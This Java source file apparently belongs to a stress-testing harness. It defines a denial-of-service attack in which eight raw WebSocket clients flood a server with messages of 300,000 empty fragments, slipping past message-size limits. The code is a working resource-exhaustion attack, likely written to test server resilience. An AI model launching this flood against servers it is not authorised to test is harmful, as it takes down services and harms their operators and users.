package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.Frames;
import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;

/** A message without bytes never exceeds the limit of its size, however many fragments it has. */
final class EmptyFragments implements Attack {
    private static final int CLIENTS = 8;
    private static final int WRITES = 100;
    private static final byte[] FRAGMENTS = Frames.repeat(Frames.nextFragment(""), 3_000);

    @Override
    public String name() {
        return "empty-fragments";
    }

    @Override
    public String summary() {
        return "8 WebSocket clients send messages of 300,000 empty fragments";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(CLIENTS, () -> session(attacker));
    }

    private static void session(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            client.connect();
            client.drainInBackground();
            while (!attacker.isStopped()) {
                client.send(Frames.firstFragment("42[\"\""));
                for (int i = 0; i < WRITES; i++) {
                    client.send(FRAGMENTS);
                }
                client.send(Frames.lastFragment("]"));
                attacker.count();
            }
        }
    }
}
